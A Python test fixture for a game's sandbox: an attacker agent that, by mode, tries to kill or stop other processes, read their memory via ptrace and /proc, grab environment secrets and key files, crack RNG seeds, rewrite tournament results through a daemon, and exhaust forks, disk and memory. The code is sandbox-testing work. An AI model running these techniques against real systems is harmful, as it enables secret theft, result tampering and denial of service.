"""An attacker for tests/sandbox/test_attacks.py: the scenario parameter ``mode`` picks its attack.

Apart from the attack it plays exactly like the template (same bids from the same draws of
``self.rng``, same plan), so its match with ``mode = "none"`` is a normal match and the same match
with an attack must come out identical. Every attack is wrapped in try/except: a blocked attack does
not fault the agent, it tries quietly and plays on. What an attack obtained is printed (the record
keeps it in ``output``) so that the tests can check that nothing leaked, on lines such as::

    GOT <what> <pid> <data>       data read from another process
    SIGNALLED <sig> <pid>          a signal was delivered to another process
    WROTE <path>                   a file or folder was created there
    WRITABLE <path>                a file outside the private folder could be opened for writing
    KEY <hex>                      a secret key was read
    PREDICTED <json>               the tasks it predicts ([[pickup, delivery, weight], ...])
    CHANGED <what>                 the scheduling or limits of another process were changed
    HELD <MiB>                     memory its processes held at once (the memory attack)
    FILES <n>                      files it made in its private folder (the files attack)

Parameters (all optional but ``mode``):
    mode          none, kill, stop, spy, environ, seed, write, network, disk, forkbomb, daemon,
                  store, record, neighbours, nice, pidfd, memory, files
    token         unique per test: in sentinel file names and in the argv / name of every process
                  the attacker starts, so that the test finds them
    wide          the test found the sandbox on: attack every process, kill(-1), 2 GiB writes.
                  Even then, processes are attacked widely only if signalling ``test_pid`` fails
                  (the agent is really confined); otherwise only the test's own process tree
                  (``tree_marker``: the referee's argv holds it) is a target, never pid 1.
    test_pid      the pytest process (never a target; the probe of confinement)
    tree_marker   a word in the argv of the referee process the test started for this match
    home, host_tmp, agents_dir, victim, key_file, results, records, record_path,
    tcp_port, udp_port, abstract, unix_path, listen_port, daemon_seconds
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import hmac
import json
import os
import signal
import socket
import sqlite3
import sys
import sysconfig
import tempfile
import time
from collections.abc import Sequence
from pathlib import Path

import numpy as np

from apdp import Action, Agent, Company, Stop, Task, TaskDistribution, Topology, Vehicle, plan_from_stops

MiB = 1024 * 1024
PR_SET_NAME = 15
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
WALL = 0x40000000
SYS_PIDFD_OPEN = 434
SYS_INOTIFY_INIT1 = 294  # x86_64
SYS_INOTIFY_ADD_WATCH = 254
SYS_FANOTIFY_INIT = 300
IN_OPEN = 0x20
PIDFD_INFO_PID, PIDFD_INFO_CGROUPID = 1, 2
PIDFD_GET_INFO = 0xC040FF0B  # _IOWR(0xFF, 11, struct pidfd_info): Linux 6.13


class PidfdInfo(ctypes.Structure):
    """struct pidfd_info (its first version, 64 bytes)."""

    _fields_ = [("mask", ctypes.c_uint64), ("cgroupid", ctypes.c_uint64),
                *((name, ctypes.c_uint32) for name in ("pid", "tgid", "ppid", "ruid", "rgid", "euid", "egid", "suid",
                                                        "sgid", "fsuid", "fsgid")),
                ("exit_code", ctypes.c_int32)]


def say(*parts: object) -> None:
    print(*parts, flush=True)


def _libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def set_name(name: str) -> None:
    with contextlib.suppress(Exception):
        _libc().prctl(PR_SET_NAME, ctypes.c_char_p(name.encode()[:15]), 0, 0, 0)


def processes() -> dict[int, tuple[int, str]]:
    """Every visible process: pid -> (parent pid, command line)."""
    found: dict[int, tuple[int, str]] = {}
    with contextlib.suppress(OSError):
        for name in os.listdir("/proc"):
            if not name.isdigit():
                continue
            try:
                with open(f"/proc/{name}/stat", "rb") as f:
                    stat = f.read().decode("utf-8", "replace")
                ppid = int(stat[stat.rindex(")") + 2:].split()[1])
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except (OSError, ValueError, IndexError):
                continue
            found[int(name)] = (ppid, cmd)
    return found


def descendants(roots: set[int], procs: dict[int, tuple[int, str]]) -> set[int]:
    out = set(roots)
    grew = True
    while grew:
        grew = False
        for pid, (ppid, _) in procs.items():
            if ppid in out and pid not in out:
                out.add(pid)
                grew = True
    return out


def derive(key: bytes, *labels: object) -> int:
    """apdp.referee.seeding's keyed derivation, as the attacker read it in the source."""
    message = json.dumps(list(labels), separators=(",", ":")).encode("utf-8")
    return int.from_bytes(hmac.new(key, message, hashlib.sha256).digest(), "big")


class Attacker(Agent):
    """The template's bids and plan, plus one attack chosen by ``mode``."""

    # ------------------------------------------------------------------ the template's play
    def setup(self, topology: Topology, distribution: TaskDistribution, company: Company) -> None:
        self.noise = 0.05
        self.won: list[Task] = []
        self.position = company.vehicles[0].home
        self.mode = str(self.params.get("mode", "none"))
        self.token = str(self.params.get("token", "notoken"))
        self.bids_made = 0
        self.keep: list[object] = []  # sockets kept open for the whole match
        if self.mode != "none":
            set_name("z" + self.token)
            self.attack("setup")

    def bid(self, task: Task) -> float | None:
        if self.mode != "none" and self.bids_made == 0:
            self.attack("bid")
        self.bids_made += 1
        vehicle = self.company.vehicles[0]
        if task.weight > vehicle.capacity:
            return None
        km = self.topology.distance(self.position, task.pickup) + self.topology.distance(task.pickup, task.delivery)
        return float(km * vehicle.cost_per_km * (1.0 + self.noise * self.rng.uniform(-1.0, 1.0)))

    def auction_result(self, task: Task, winner: int | None, bids: Sequence[float | None]) -> None:
        if winner == self.agent_id:
            self.won.append(task)
            self.position = task.delivery

    def plan(self, vehicles: Sequence[Vehicle], tasks: Sequence[Task]) -> list[list[Action]]:
        if self.mode != "none":
            self.attack("plan")
        stops: list[Stop] = []
        for task in tasks:
            stops += [Stop.pickup(task), Stop.deliver(task)]
        return [plan_from_stops(self.topology, vehicles[0], stops)] + [[] for _ in vehicles[1:]]

    # ------------------------------------------------------------------ dispatch
    PHASES = {
        "kill": ("setup", "bid", "plan"), "stop": ("setup", "bid", "plan"), "spy": ("setup", "plan"),
        "environ": ("setup",), "seed": ("setup",), "write": ("setup",), "network": ("setup",),
        "disk": ("setup",), "forkbomb": ("setup",), "daemon": ("setup",),
        "store": ("setup", "bid", "plan"), "record": ("setup", "plan"),
        "neighbours": ("setup",), "nice": ("setup", "plan"), "pidfd": ("setup", "bid"), "memory": ("setup",), "files": ("setup",),
        "watch": ("setup", "bid"),
    }

    def attack(self, phase: str) -> None:
        if phase not in self.PHASES.get(self.mode, ()):
            return
        self.until = time.monotonic() + max(0.05, self.deadline.remaining() - 0.5)
        self.phase = phase
        try:
            getattr(self, "attack_" + self.mode)()
        except Exception as exc:  # a real attacker plays on
            say(f"attack {self.mode} in {phase} failed: {type(exc).__name__}: {exc}")

    def p(self, name: str, default: object = None) -> object:
        return self.params.get(name, default)

    def time_left(self) -> bool:
        return time.monotonic() < self.until

    @property
    def marker(self) -> str:
        return "apdp-zoo-" + self.token

    # ------------------------------------------------------------------ whom to attack
    def confined(self) -> bool:
        """Whether the sandbox really keeps this process from signalling the test process."""
        test_pid = self.p("test_pid")
        if not self.p("wide") or not isinstance(test_pid, int):
            return False
        try:
            os.kill(test_pid, 0)
        except OSError:
            return True
        return False

    def targets(self) -> set[int]:
        """Other processes to attack: every visible one when confined, else the test's tree only."""
        procs = processes()
        mine = descendants({os.getpid()}, procs)
        if "APDP_AGENT_DIR" in os.environ:  # run as an agent program: its parent is its own agent process
            mine |= {os.getppid()}
        if self.confined():
            # /proc may be hidden: guess pids too (the parent, the test, every pid near its own).
            me = os.getpid()
            chosen = set(procs) | {os.getppid(), int(self.p("test_pid", 0))} | set(range(max(2, me - 2000), me + 2000))
        else:
            marker = self.p("tree_marker")
            roots = {pid for pid, (_, cmd) in procs.items() if marker and str(marker) in cmd}
            chosen = descendants(roots, procs) if roots else set()
        return chosen - mine - {1, os.getpid()}

    # ------------------------------------------------------------------ processes
    def attack_kill(self) -> None:
        self.send(signal.SIGKILL)

    def attack_stop(self) -> None:
        self.send(signal.SIGSTOP)

    def send(self, sig: signal.Signals) -> None:
        targets = self.targets()
        say(f"{self.phase}: {len(targets)} target processes, confined={self.confined()}")
        own_group = os.getpgrp()
        refused: dict[str, int] = {}
        for pid in sorted(targets):
            try:
                os.kill(pid, sig)
                say(f"SIGNALLED {sig.name} {pid}")
            except OSError as exc:
                refused[str(exc.strerror)] = refused.get(str(exc.strerror), 0) + 1
            with contextlib.suppress(OSError):
                group = os.getpgid(pid)
                if group != own_group and group in targets:
                    os.killpg(group, sig)
                    say(f"SIGNALLED {sig.name} group {group}")
        say(f"kill refused: {refused}")
        if self.confined():
            try:
                os.kill(-1, sig)  # returns 0 even when every signal was refused (EPERM)
                say(f"kill -1 {sig.name}: returned 0")
            except OSError as exc:
                say(f"kill -1: {exc.strerror}")

    def attack_spy(self) -> None:
        targets = self.targets()
        say(f"{self.phase}: spying on {len(targets)} processes")
        libc = _libc()
        for pid in sorted(targets):
            if not self.time_left():
                break
            for what in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{what}", "rb") as f:
                        data = f.read(65536).replace(b"\0", b" ").decode("utf-8", "replace")
                    say(f"GOT {what} {pid} {data[:4000]}")
                except OSError:
                    pass
            region = None
            try:
                with open(f"/proc/{pid}/maps") as f:
                    lines = f.read().splitlines()
                say(f"GOT maps {pid} {len(lines)} mappings")
                for line in lines:
                    parts = line.split()
                    if len(parts) >= 2 and parts[1].startswith("r"):
                        region = int(parts[0].split("-")[0], 16)
                        if "[heap]" in line:
                            break
            except (OSError, ValueError):
                pass
            if region is not None:
                try:
                    with open(f"/proc/{pid}/mem", "rb") as f:
                        f.seek(region)
                        data = f.read(4096)
                    say(f"GOT mem {pid} {len(data)} bytes {data[:64]!r}")
                except (OSError, ValueError, OverflowError):
                    pass
                self.vm_read(libc, pid, region)
            self.ptrace(libc, pid, region)

    def vm_read(self, libc: ctypes.CDLL, pid: int, address: int) -> None:
        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        with contextlib.suppress(Exception):
            buf = ctypes.create_string_buffer(256)
            local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 256)
            remote = IoVec(ctypes.c_void_p(address), 256)
            fn = libc.process_vm_readv
            fn.restype = ctypes.c_ssize_t
            n = fn(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if n > 0:
                say(f"GOT process_vm_readv {pid} {n} bytes {buf.raw[:32]!r}")

    def ptrace(self, libc: ctypes.CDLL, pid: int, address: int | None) -> None:
        fn = libc.ptrace
        fn.restype = ctypes.c_long
        fn.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        if fn(PTRACE_ATTACH, pid, None, None) != 0:
            return
        try:
            stop = time.monotonic() + 0.2
            while time.monotonic() < stop:
                try:
                    done, _ = os.waitpid(pid, os.WNOHANG | WALL)
                except ChildProcessError:
                    break
                if done:
                    break
                time.sleep(0.005)
            word = fn(PTRACE_PEEKDATA, pid, ctypes.c_void_p(address or 0), None)
            say(f"GOT ptrace {pid} attached, word {word:#x}")
        finally:
            fn(PTRACE_DETACH, pid, None, None)

    # ------------------------------------------------------------------ secrets
    def key_files(self) -> list[str]:
        files = [os.environ.get("APDP_SECRET_FILE", ""), os.environ.get("APDP_KEY_FILE", ""), str(self.p("key_file", "")),
                 os.path.expanduser("~/.local/share/apdp/key")]
        return [f for f in files if f]

    def read_keys(self) -> list[bytes]:
        keys: list[bytes] = []
        for path in self.key_files():
            try:
                with open(path) as f:
                    key = bytes.fromhex(f.read().strip())
                say(f"KEY {key.hex()} from {path}")
                keys.append(key)
            except (OSError, ValueError):
                pass
        for store in self.stores():
            with contextlib.suppress(Exception):
                conn = sqlite3.connect(f"file:{store}?mode=ro", uri=True, timeout=0.2)
                row = conn.execute("SELECT key FROM secret").fetchone()
                conn.close()
                if row:
                    say(f"KEY {bytes(row[0]).hex()} from {store}")
                    keys.append(bytes(row[0]))
        return keys

    def attack_environ(self) -> None:
        say("ENVIRON " + json.dumps(dict(os.environ), sort_keys=True))
        with contextlib.suppress(OSError), open("/proc/self/environ", "rb") as f:
            say("PROC-ENVIRON " + f.read().replace(b"\0", b" ").decode("utf-8", "replace"))
        self.read_keys()

    def attack_seed(self) -> None:
        seq = self.rng.bit_generator.seed_seq
        entropy = int(seq.entropy)  # type: ignore[attr-defined]
        say(f"ENTROPY {entropy}")
        say("STATE " + json.dumps(self.rng.bit_generator.state, default=str))
        keys = self.read_keys()
        me, n = self.agent_id, self.agents
        seed = 0
        while self.time_left() and seed < 10_000_000:
            for s in range(seed, seed + 200):
                legacy = np.random.SeedSequence(s).spawn(3)
                if int(legacy[2].spawn(n)[me].generate_state(1, np.uint64)[0]) == entropy:
                    self.predict(s, np.random.default_rng(legacy[0]))
                    return
                for key in keys:
                    if derive(key, "agent", me, s) == entropy:
                        self.predict(s, np.random.default_rng(np.random.SeedSequence(derive(key, "tasks", s))))
                        return
            seed += 200
        say(f"brute force: no match seed below {seed}")

    def predict(self, seed: int, rng: np.random.Generator) -> None:
        say(f"FOUND match seed {seed}")
        tasks = self.distribution.sample_tasks(rng, 50)
        say("PREDICTED " + json.dumps([[t.pickup, t.delivery, t.weight] for t in tasks]))

    # ------------------------------------------------------------------ files
    def sentinel_dirs(self) -> list[str]:
        import apdp

        package = Path(apdp.__file__).parent
        dirs = [str(self.p("agents_dir", "")), str(package.parent / "agents"), str(package),
                sysconfig.get_paths()["purelib"], os.path.expanduser("~"), str(self.p("home", "")),
                tempfile.gettempdir(), str(self.p("host_tmp", "")), "/dev/shm", os.getcwd(),
                str(Path(__file__).resolve().parent)]
        return [d for d in dict.fromkeys(dirs) if d]

    def attack_write(self) -> None:
        name = f"apdp-zoo-{self.token}.txt"
        for folder in self.sentinel_dirs():
            path = os.path.join(folder, name)
            try:
                with open(path, "x") as f:
                    f.write("pwned\n")
                say(f"WROTE {path}")
            except OSError as exc:
                say(f"write {path}: {exc.strerror}")
        victim = self.p("victim")
        if victim:
            try:
                with open(str(victim), "a") as f:
                    f.write("pwned\n")
                say(f"WRITABLE {victim}")
            except OSError as exc:
                say(f"append {victim}: {exc.strerror}")
            with contextlib.suppress(OSError):
                os.chmod(str(victim), 0o777)
                say(f"WRITABLE chmod {victim}")

    def attack_disk(self) -> None:
        # Unconfined, the private /tmp is the host's: never more than 64 MiB there.
        cap = 2048 * MiB if self.p("wide") else 64 * MiB
        self.fill(os.path.join(tempfile.gettempdir(), f"apdp-zoo-disk-{self.token}"), cap, "private")
        host = self.p("host_tmp")
        if host:
            self.fill(os.path.join(str(host), f"apdp-zoo-disk-{self.token}"), cap, "host")

    def fill(self, folder: str, cap: int, label: str) -> None:
        written, reason = 0, "cap"
        chunk = b"\0" * MiB
        try:
            os.makedirs(folder, exist_ok=True)
            say(f"WROTE {folder}")
            index = 0
            while written < cap:
                if not self.time_left():
                    reason = "deadline"
                    break
                with open(os.path.join(folder, f"fill-{index}"), "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
                        written += MiB
                        if written >= cap:
                            break
                index += 1
        except OSError as exc:
            reason = f"OSError {exc.strerror}"
        say(f"DISK {label} wrote {written} bytes, stopped by {reason}")

    # ------------------------------------------------------------------ results
    def result_roots(self) -> list[str]:
        roots = [self.p("results"), self.p("records")]
        record = self.p("record_path")
        if record:
            roots.append(os.path.dirname(str(record)))
        return [str(r) for r in roots if r]

    def stores(self) -> list[str]:
        out = []
        for root in self.result_roots():
            path = os.path.join(root, "tournament.sqlite")
            if os.path.exists(path):
                out.append(path)
        return out

    def walk(self) -> tuple[list[str], list[str]]:
        """tournament.sqlite and *.json files, from the hinted folders then from /, bounded."""
        stores: list[str] = []
        records: list[str] = []
        seen = 0
        end = time.monotonic() + 0.5 * max(0.0, self.until - time.monotonic())
        for top in [*self.result_roots(), "/tmp", "/"]:
            for folder, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
                for f in files:
                    seen += 1
                    path = os.path.join(folder, f)
                    if f == "tournament.sqlite" and path not in stores:
                        stores.append(path)
                    elif f.endswith(".json") and len(records) < 2000 and path not in records:
                        records.append(path)
                if seen > 300_000 or time.monotonic() > end:
                    break
            if seen > 300_000 or time.monotonic() > end:
                break
        return stores, records

    def probe_writable(self, paths: list[str]) -> None:
        """Found files: opened for writing (nothing written) to show they could be changed."""
        shown = 0
        for path in paths:
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NOFOLLOW))
            except OSError:
                continue
            if shown < 10:
                say(f"WRITABLE {path}")
            shown += 1
        say(f"{shown} of {len(paths)} found files writable")

    def allowed(self, path: str) -> bool:
        """Only the test's own results are really rewritten, whatever the sandbox."""
        return any(os.path.abspath(path).startswith(os.path.abspath(r) + os.sep) for r in self.result_roots())

    def rewrite_results(self, verbose: bool) -> None:
        for store in self.stores():
            try:
                conn = sqlite3.connect(store, timeout=0.2)
                me = "attacker"
                rows = conn.execute("SELECT key, agents, record FROM matches").fetchall()
                for key, agents, record in rows:
                    names = json.loads(agents)
                    rec = json.loads(record)
                    index = names.index(me) if me in names else 0
                    profit = [1e9 if i == index else -1e9 for i in range(len(names))]
                    rec["result"]["winner"] = index
                    rec["result"]["profit"] = profit
                    rec["pwned"] = self.token
                    conn.execute("UPDATE matches SET winner = ?, profit = ?, record = ? WHERE key = ?",
                                 (me, json.dumps(profit), json.dumps(rec), key))
                conn.commit()
                conn.close()
                if verbose:
                    say(f"REWROTE {store}: {len(rows)} rows")
            except Exception as exc:
                if verbose:
                    say(f"rewrite {store}: {type(exc).__name__}: {exc}")
        files = []
        for root in self.result_roots():
            with contextlib.suppress(OSError):
                files += [os.path.join(root, f) for f in os.listdir(root) if f.endswith(".json")]
        for path in files:
            try:
                with open(path, "r+") as f:
                    rec = json.load(f)
                    rec["result"]["winner"] = self.agent_id
                    rec["result"]["profit"][self.agent_id] = 1e9
                    rec["pwned"] = self.token
                    f.seek(0)
                    f.write(json.dumps(rec))
                    f.truncate()
                if verbose:
                    say(f"REWROTE {path}")
            except Exception as exc:
                if verbose:
                    say(f"rewrite {path}: {type(exc).__name__}: {exc}")

    def plant_symlink(self) -> None:
        record, victim = self.p("record_path"), self.p("victim")
        if not record or not victim:
            return
        try:
            os.symlink(str(victim), str(record))
            say(f"WROTE symlink {record} -> {victim}")
        except OSError as exc:
            say(f"symlink {record}: {exc.strerror}")

    def results_daemon(self) -> None:
        """A double-forked daemon rewriting the results every 0.05 s for a few seconds."""
        seconds = float(self.p("daemon_seconds", 4.0))  # type: ignore[arg-type]
        self.daemonise(lambda: self.keep_rewriting(seconds))

    def keep_rewriting(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with contextlib.suppress(Exception):
                self.rewrite_results(verbose=False)
            time.sleep(0.05)

    def attack_store(self) -> None:
        if self.phase == "setup":
            stores, records = self.walk()
            say(f"found {len(stores)} stores, {len(records)} json files")
            self.probe_writable([p for p in stores + records if not self.allowed(p)][:500])
            self.read_keys()
            self.results_daemon()
        self.rewrite_results(verbose=True)

    def attack_record(self) -> None:
        if self.phase == "setup":
            self.plant_symlink()
            self.read_keys()
            self.results_daemon()
        self.rewrite_results(verbose=True)

    # ------------------------------------------------------------------ network
    def attack_network(self) -> None:
        def attempt(label: str, family: int, kind: int, address: object, send: bool = False) -> None:
            try:
                s = socket.socket(family, kind)
            except OSError as exc:
                say(f"{label}: socket() {exc.strerror}")
                return
            try:
                s.settimeout(0.3)
                if send:
                    s.sendto(b"pwned " + self.token.encode(), address)  # type: ignore[arg-type]
                    say(f"SENT {label}")
                else:
                    s.connect(address)  # type: ignore[arg-type]
                    s.sendall(b"pwned " + self.token.encode())
                    say(f"CONNECTED {label}")
            except OSError as exc:
                say(f"{label}: {exc.strerror or exc}")
            finally:
                s.close()

        if self.p("tcp_port"):
            attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(self.p("tcp_port"))))  # type: ignore[arg-type]
        if self.p("udp_port"):
            attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int(self.p("udp_port"))), send=True)  # type: ignore[arg-type]
        if self.p("abstract"):
            attempt("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + str(self.p("abstract")))
        if self.p("unix_path"):
            attempt("unix", socket.AF_UNIX, socket.SOCK_STREAM, str(self.p("unix_path")))
        if self.p("listen_port"):
            try:
                server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                server.bind(("127.0.0.1", int(self.p("listen_port"))))  # type: ignore[arg-type]
                server.listen(8)
                self.keep.append(server)
                say(f"LISTENING {self.p('listen_port')}")
            except OSError as exc:
                say(f"listen: {exc.strerror or exc}")

    # ------------------------------------------------------------------ processes it leaves
    def daemonise(self, work: object) -> None:
        """Run ``work`` (a callable) or exec a marked sleeper in a double-forked setsid daemon."""
        first = os.fork()
        if first:
            with contextlib.suppress(ChildProcessError):
                os.waitpid(first, 0)
            return
        try:
            with contextlib.suppress(OSError):  # refused when confined: the double fork still detaches
                os.setsid()
            if os.fork():
                os._exit(0)
            set_name("z" + self.token)
            if callable(work):
                work()
            else:
                with contextlib.suppress(OSError):
                    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)", self.marker])
                time.sleep(1000)
        finally:
            os._exit(0)

    def attack_daemon(self) -> None:
        self.daemonise(None)
        say("daemon started")

    def attack_forkbomb(self) -> None:
        limit = 10_000 if self.p("wide") else 200
        forked, reason = 0, "limit"
        while forked < limit:
            if not self.time_left():
                reason = "deadline"
                break
            try:
                pid = os.fork()
            except OSError as exc:
                reason = f"OSError {exc.strerror}"
                break
            if pid == 0:
                try:
                    with contextlib.suppress(OSError):
                        os.execv("/bin/sleep", [self.marker, "1000"])
                    set_name("z" + self.token)
                    time.sleep(1000)
                finally:
                    os._exit(0)
            forked += 1
        say(f"FORKED {forked}, stopped by {reason}")

    # ------------------------------------------------------------------ what lies beside it
    def attack_neighbours(self) -> None:
        """Read every file beside its own (other agents, parameters, a results store, a key), run a
        module there, list the folder."""
        here = os.path.dirname(os.path.abspath(__file__))
        try:
            others = sorted(n for n in os.listdir(here) if n != os.path.basename(__file__))
            say(f"GOT listing {here} {others[:20]}" if others else f"list {here}: only its own file")
        except OSError as exc:
            say(f"list {here}: {exc.strerror}")
        for name in ["victim.py", "params.toml", "tournament.sqlite", "key", "victim.json",
                     *[str(n) for n in self.p("beside", [])]]:  # type: ignore[union-attr]
            path = os.path.join(here, name)
            try:
                with open(path, "rb") as f:
                    say(f"GOT file {path} {f.read(200)!r}")
            except OSError as exc:
                say(f"read {path}: {exc.strerror}")
        try:
            import victim  # type: ignore[import-not-found]  # noqa: F401

            say("GOT import victim")
        except ImportError as exc:
            say(f"import victim: {exc}")

    # ------------------------------------------------------------------ other processes' scheduling
    # ------------------------------------------------------------------ other processes' handles
    def attack_pidfd(self) -> None:
        """What /proc hides, asked of each process by its pid: a pidfd (pidfd_open), then the pidfd's
        PIDFD_GET_INFO (its parent, ids and control group: the host's process tree, and whether its
        opponent runs a program), its process group and its session."""
        libc = _libc()
        libc.syscall.restype = ctypes.c_long
        found = 0
        for pid in sorted(self.targets()):
            if not self.time_left():
                break
            got = []
            fd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
            if fd >= 0:
                info = PidfdInfo(mask=PIDFD_INFO_PID | PIDFD_INFO_CGROUPID)
                if libc.ioctl(int(fd), PIDFD_GET_INFO, ctypes.byref(info)) == 0:
                    got.append(f"pidfd: parent {info.ppid}, uid {info.ruid}, cgroup {info.cgroupid}")
                else:
                    got.append("pidfd")
                os.close(int(fd))
            for what, ask in (("group", os.getpgid), ("session", os.getsid)):
                with contextlib.suppress(OSError):
                    got.append(f"{what} {ask(pid)}")
            if got:
                found += 1
                if found <= 20:
                    say(f"GOT process {pid}: {'; '.join(got)}")
        say(f"pidfd: {found} processes seen")

    def attack_watch(self) -> None:
        """Watch folders for other processes' opens of files (inotify, fanotify: Landlock covers
        neither): its own folder, where the other agents are, and the libraries every agent imports;
        and take every inotify instance of its user, which all the user's processes share."""
        libc = _libc()
        libc.syscall.restype = ctypes.c_long
        instances = []
        for _ in range(1000):
            fd = libc.syscall(SYS_INOTIFY_INIT1, 0)
            if fd < 0:
                break
            instances.append(int(fd))
        if instances:
            say(f"GOT {len(instances)} inotify instances")
            for folder in (os.path.dirname(os.path.abspath(__file__)), sys.prefix, os.path.dirname(os.__file__)):
                if libc.syscall(SYS_INOTIFY_ADD_WATCH, instances[0], folder.encode(), IN_OPEN) >= 0:
                    say(f"GOT a watch on {folder}")
        for fd in instances:
            os.close(fd)
        fd = libc.syscall(SYS_FANOTIFY_INIT, 0, 0)
        if fd >= 0:
            say("GOT a fanotify group")
            os.close(int(fd))
        say(f"WATCH tried: {len(instances)} inotify instances taken")

    def attack_nice(self) -> None:
        """Lower the priority of every process of its user, raise its limits' grip on the referee's."""
        libc = _libc()
        tries: dict[str, object] = {}
        if self.confined():  # every process of the user: only where the sandbox is proven on
            tries = {
                "setpriority user": lambda: os.setpriority(os.PRIO_USER, 0, 19),
                "setpriority user by uid": lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
                "ioprio_set user": lambda: self.check_call(libc.syscall(251, 3, 0, (3 << 13) | 7)),
            }
        for pid in sorted(self.targets())[:50]:
            tries[f"setpriority {pid}"] = lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19)
            tries[f"sched idle {pid}"] = lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
            tries[f"prlimit {pid}"] = lambda pid=pid: __import__("resource").prlimit(
                pid, __import__("resource").RLIMIT_NOFILE, (16, 16))
        refused = 0
        for label, attempt in tries.items():
            try:
                attempt()  # type: ignore[operator]
                say(f"CHANGED {label}")
            except OSError:
                refused += 1
        say(f"nice: {refused} of {len(tries)} refused")

    @staticmethod
    def check_call(result: int) -> None:
        if result != 0:
            raise OSError(ctypes.get_errno(), "refused")

    # ------------------------------------------------------------------ memory and files
    def attack_memory(self) -> None:
        """Children that each fill ``chunk_mb`` MiB of shared memory (no rlimit counts it), together
        far past the limit; prints what they held at once."""
        import mmap

        chunk = int(self.p("chunk_mb", 96)) * MiB  # type: ignore[arg-type]
        count = int(self.p("children", 6))  # type: ignore[arg-type]
        read_end, write_end = os.pipe()
        children = []
        for index in range(count):
            pid = os.fork()
            if pid == 0:
                set_name("z" + self.token)
                area = mmap.mmap(-1, chunk)
                for offset in range(0, chunk, 4096):
                    area[offset] = 1
                os.write(write_end, bytes([index]))  # filled: which child, so that held is told exactly
                time.sleep(1000)
                os._exit(0)
            children.append(pid)
        os.close(write_end)
        import select

        filled: set[int] = set()
        dead: set[int] = set()
        # A child killed for the group's memory frees it before it is reaped: one that filled in its
        # stead may say so first. So what they held is told once all are told and nothing has changed
        # for half a second.
        quiet_since, end = time.monotonic(), time.monotonic() + 8
        while time.monotonic() < end and (len(filled | dead) < count or time.monotonic() - quiet_since < 0.5):
            told = set(os.read(read_end, 64)) if select.select([read_end], [], [], 0.05)[0] else set()
            died = {i for i, pid in enumerate(children) if i not in dead and os.waitpid(pid, os.WNOHANG) != (0, 0)}
            if told - filled or died:
                filled, dead, quiet_since = filled | told, dead | died, time.monotonic()
        say(f"HELD {len(filled - dead) * chunk // MiB}")  # filled and alive at the end: held at once
        for pid in children:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)

    def attack_files(self) -> None:
        """Empty files in its private folder until refused (each costs the kernel memory)."""
        folder = os.path.join(tempfile.gettempdir(), f"apdp-zoo-disk-{self.token}")
        os.makedirs(folder, exist_ok=True)
        made = 0
        most = 2_000_000 if self.confined() else 1_000  # unconfined, its folder is the host's /tmp
        try:
            while made < most and self.time_left():
                os.close(os.open(os.path.join(folder, str(made)), os.O_CREAT | os.O_WRONLY, 0o600))
                made += 1
        except OSError as exc:
            say(f"files: {exc.strerror}")
        say(f"FILES {made}")
